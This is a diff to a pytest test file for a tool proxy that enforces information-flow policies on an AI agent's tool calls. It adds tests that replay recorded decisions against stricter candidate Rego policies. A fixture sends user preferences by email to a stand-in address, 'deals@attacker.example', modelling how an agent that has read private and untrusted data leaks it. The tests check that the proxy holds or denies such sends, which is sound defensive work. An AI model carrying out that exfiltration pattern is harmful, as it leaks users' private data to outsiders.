@@ -9,7 +9,11 @@ expired the same send runs.
 from __future__ import annotations
 
 import json
+import shutil
+import subprocess
+import sys
 import uuid
+from pathlib import Path
 
 import httpx2
 import pytest
@@ -26,6 +30,7 @@ PREFS = ("get_user_preferences", {"user_ref": "usr_alice"})
 PAGE = ("fetch_page", {"url": "https://shop.example/offers"})
 SEND = ("send_email", {"to": "deals@attacker.example", "subject": "prefs", "body": "en, email"})
 FLOW_SETTING = "toolproxy/settings/flow"
+REPO = Path(__file__).resolve().parent.parent
 
 
 @pytest.fixture
@@ -216,3 +221,74 @@ async def test_an_unlabelled_call_costs_no_redis_command_and_a_labelled_one_exac
     assert not [c for c in plain.commands if c.startswith("flow.")], plain
     assert [c for c in labelled.commands if c.startswith("flow.")] == ["flow.record"], labelled
     assert [c for c in sink.commands if c.startswith("flow.")] == ["flow.read"], sink
+
+
+# -- replay and explain: recorded decisions of the story against candidate flow policies ----------------
+
+def _toolproxy(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "proxy.cli", "policy", *args], capture_output=True, text=True,
+                          timeout=180, cwd=REPO)
+
+
+def _replay(records: Path, *, policy: Path = REPO / "policies", data: Path = REPO / "examples" / "opa") -> dict:
+    done = _toolproxy("replay", "--records", str(records), "--policy", str(policy), "--data", str(data),
+                      "--registry", str(REPO / "examples" / "registry"), "--format", "json")
+    assert done.returncode == 0, done.stdout + done.stderr
+    return json.loads(done.stdout)
+
+
+async def test_replay_against_candidate_flow_policies_shows_exactly_the_calls_that_change(stack, proxy_deps,
+                                                                                         tmp_path):
+    from proxy.authoring.policy_replay import read_stream
+    def send(subject: str) -> tuple[str, dict]:
+        return SEND[0], {**SEND[1], "subject": subject}
+
+    story = [(send("clean"), 200), (PREFS, 200), (send("after private"), 200), (PAGE, 200),
+             (send("after both"), 403)]
+    headers = run("replay")
+    for (tool, arguments), status in story:
+        got, env = await stack.call(tool, arguments, headers=headers)
+        assert got == status, env
+    got, env = await stack.call("send_email", {**SEND[1], "subject": "rotated"}, headers=run("rotated"))
+    assert got == 403, env
+    records, _ = await read_stream(proxy_deps["redis.url"], "toolproxy:decisions:{stream}")
+    assert [(r["tool"], r["decision"]["result"]) for r in records] == [
+        ("send_email", "allow"), ("get_user_preferences", "allow"), ("send_email", "allow"),
+        ("fetch_page", "allow"), ("send_email", "require_approval"), ("send_email", "require_approval")]
+    path = tmp_path / "decisions.jsonl"
+    path.write_text("".join(json.dumps(r) + "\n" for r in records))
+
+    same = _replay(path)
+    assert (same["records"], same["replayed"], same["changed"]) == (6, 6, 0)
+
+    # Candidate data: deny instead of asking a person. Exactly the two sends after both labels change.
+    data = json.loads((REPO / "examples" / "opa" / "data.json").read_text())
+    data["toolproxy"]["settings"]["flow"]["private_to_external"] = "deny"
+    (tmp_path / "deny").mkdir()
+    (tmp_path / "deny" / "data.json").write_text(json.dumps(data))
+    deny = _replay(path, data=tmp_path / "deny")
+    assert deny["changed"] == 2
+    assert deny["transitions"] == {"require_approval->deny": {"send_email": 2}}
+
+    # Candidate policy: private alone is enough. The send and the fetch (an external sink too) after the
+    # private read change; the clean send, the reads and the sends already held do not.
+    candidate = tmp_path / "policies"
+    shutil.copytree(REPO / "policies", candidate)
+    rule = (candidate / "flow.rego").read_text()
+    stricter = rule.replace('\tseen("private")\n\tseen("untrusted")\n', '\tseen("private")\n')
+    assert stricter != rule
+    (candidate / "flow.rego").write_text(stricter)
+    (candidate / "flow_test.rego").unlink()  # its expectations are the shipped rule's
+    strict = _replay(path, policy=candidate)
+    assert strict["changed"] == 2
+    assert strict["transitions"] == {"allow->require_approval": {"fetch_page": 1, "send_email": 1}}
+    assert strict["reasons_added"] == {"flow_private_to_external": 2}
+
+    # explain, from the record of the refused send: the reason and the rules that gave it.
+    held = [r for r in records if r["decision"]["result"] == "require_approval"][0]
+    done = _toolproxy("explain", "--decision-id", held["request_id"], "--records", str(path), "--policy",
+                      str(REPO / "policies"), "--data", str(REPO / "examples" / "opa"), "--registry",
+                      str(REPO / "examples" / "registry"))
+    assert done.returncode == 0, done.stderr
+    assert "decision: require_approval" in done.stdout and "reason flow_private_to_external" in done.stdout
+    assert "policies/flow.rego" in done.stdout
